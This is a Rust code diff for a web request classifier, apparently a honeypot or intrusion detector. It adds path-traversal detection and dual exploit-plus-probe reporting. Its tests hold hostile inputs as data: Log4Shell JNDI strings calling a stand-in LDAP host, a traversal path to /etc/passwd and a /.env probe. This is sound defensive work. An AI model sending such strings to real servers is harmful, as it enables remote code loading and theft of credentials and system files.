@@ -7,7 +7,7 @@ use relight_model::{Event, OrgId, SiteId, Timestamp};
 use crate::decode::attempt;
 use crate::lookup::Verdict;
 use crate::pool::Print;
-use crate::{catalogue, path_class};
+use crate::{catalogue, path_class, traversal};
 
 /// Longest text of a contact that is kept, in bytes.
 pub(crate) const TEXT_BYTES_MAX: usize = 256;
@@ -216,35 +216,45 @@ impl Facts {
     }
 }
 
-/// What an event is: ordinary use of a path, a contact, or neither.
+/// What an event is: ordinary use of a path, contacts, or neither.
 #[derive(Debug)]
 pub(crate) enum Observed {
     /// Served to an ordinary visitor; the hash of the path class.
     Ordinary(u64),
-    /// A contact: kind, door and the text to keep.
-    Contact(Kind, u64, String),
+    /// A contact, and one more when a payload came through a door of the catalogue.
+    Contact(Knock, Option<Knock>),
     /// Nothing that counts.
     Neither,
 }
 
+/// One contact: its kind, its door and the text to keep.
+#[derive(Debug)]
+pub(crate) struct Knock {
+    pub(crate) kind: Kind,
+    pub(crate) door: u64,
+    pub(crate) text: String,
+}
+
+impl Knock {
+    fn new(kind: Kind, door: u64, text: &str) -> Self {
+        Self { kind, door, text: cut(text) }
+    }
+}
+
 /// Classifies one event; ordinary ones cost no allocation.
 pub(crate) fn observe(event: &Event<'_>) -> Observed {
-    if let Some(found) = attempt(event) {
-        let kind = match found.verdict {
-            Verdict::EffectiveRemote => Some(Kind::Exploit),
-            Verdict::Attempt(_) => Some(Kind::Attempt),
-            // Applications log such names themselves.
-            Verdict::EffectiveLocal | Verdict::Benign => None,
-        };
-        if let Some(kind) = kind {
-            let last_step = found.steps.last().cloned().unwrap_or_default();
-            let text = if found.key.is_empty() { last_step } else { found.key };
-            return Observed::Contact(kind, path_class::exact_hash(&text), cut(&text));
-        }
-    }
+    let payload = payload(event);
     let path = path_class::normalised(event.path);
-    if let Some(entry) = catalogue::matched(event, &path) {
-        return Observed::Contact(Kind::Probe, path_class::hash(&entry.id), cut(&path));
+    let entry = catalogue::matched(event, &path);
+    let probe = entry.map(|it| Knock::new(Kind::Probe, path_class::hash(&it.id), &path));
+    let knock = match (payload, probe) {
+        (Some(payload), probe) => return Observed::Contact(payload, probe),
+        (None, Some(probe)) => Some(probe),
+        (None, None) => traversal::climbed(event, &path)
+            .map(|text| Knock::new(Kind::Attempt, path_class::hash(&text), &text)),
+    };
+    if let Some(knock) = knock {
+        return Observed::Contact(knock, None);
     }
     let kind = match event.status {
         200..=399 => return Observed::Ordinary(path_class::hash(&path)),
@@ -255,7 +265,21 @@ pub(crate) fn observe(event: &Event<'_>) -> Observed {
     if catalogue::is_conventional(&path) {
         return Observed::Neither;
     }
-    Observed::Contact(kind, path_class::hash(&path), cut(&path))
+    Observed::Contact(Knock::new(kind, path_class::hash(&path), &path), None)
+}
+
+/// A lookup in the event.
+fn payload(event: &Event<'_>) -> Option<Knock> {
+    let found = attempt(event)?;
+    let kind = match found.verdict {
+        Verdict::EffectiveRemote => Kind::Exploit,
+        Verdict::Attempt(_) => Kind::Attempt,
+        // Applications log such names themselves.
+        Verdict::EffectiveLocal | Verdict::Benign => return None,
+    };
+    let last_step = found.steps.last().cloned().unwrap_or_default();
+    let text = if found.key.is_empty() { last_step } else { found.key };
+    Some(Knock::new(kind, path_class::exact_hash(&text), &text))
 }
 
 /// The referer names the host that was asked.
@@ -289,7 +313,7 @@ mod tests {
 
     fn kind(event: &Event<'_>) -> Option<Kind> {
         match observe(event) {
-            Observed::Contact(kind, _, _) => Some(kind),
+            Observed::Contact(knock, _) => Some(knock.kind),
             Observed::Ordinary(_) | Observed::Neither => None,
         }
     }
@@ -301,6 +325,7 @@ mod tests {
             ("/$${jndi:ldap://x/a}", 200, Some(Kind::Attempt)),
             ("/${jndi:java:comp/x}", 200, None),
             ("/.env", 200, Some(Kind::Probe)),
+            ("/a/%2e%2e/%2e%2e/etc/passwd", 404, Some(Kind::Attempt)),
             ("/%2eenv", 404, Some(Kind::Probe)),
             ("/a", 403, Some(Kind::Refused)),
             ("/a", 404, Some(Kind::NotFound)),
@@ -310,6 +335,18 @@ mod tests {
             ("/a", 500, None),
         ] {
             assert_eq!(kind(&event(path, status)), expected, "{path} {status}");
+        }
+    }
+
+    /// A payload that comes through a door of the catalogue is both.
+    #[test]
+    fn a_payload_through_a_door_is_both() {
+        let query = "x=${jndi:ldap://c.example/a}";
+        for (path, door) in [("/solr/admin/cores", true), ("/nowhere", false)] {
+            let observed = observe(&Event { query, ..event(path, 200) });
+            let Observed::Contact(first, second) = observed else { panic!("{observed:?}") };
+            assert_eq!((first.kind, first.text.as_str()), (Kind::Exploit, "ldap://c.example/a"));
+            assert_eq!(second.map(|it| it.kind), door.then_some(Kind::Probe), "{path}");
         }
     }
 
